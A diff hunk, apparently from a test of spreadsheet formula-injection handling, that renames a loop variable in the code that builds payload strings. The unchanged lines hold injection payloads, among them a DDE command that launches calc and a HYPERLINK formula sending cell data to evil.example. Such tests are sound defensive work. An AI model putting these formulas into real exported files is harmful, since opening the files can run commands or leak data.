@@ -11,7 +11,7 @@ const BEFORE = [
 ];
 const AFTER = ["cmd|'/c calc'!A0", '1+1', 'HYPERLINK("http://evil.example?"&A1,"Open")', 'SUM(A1:A9)*cmd'];
 const PAYLOADS = STARTS.flatMap((start, at) =>
-  BEFORE.map((before, position) => `${before}${start}${AFTER[(at + position) % AFTER.length] ?? ''}`),
+  BEFORE.map((before, index) => `${before}${start}${AFTER[(at + index) % AFTER.length] ?? ''}`),
 );
 
 /** The cells of a text as a spreadsheet parses it: quotes count only at the beginning of a cell. */
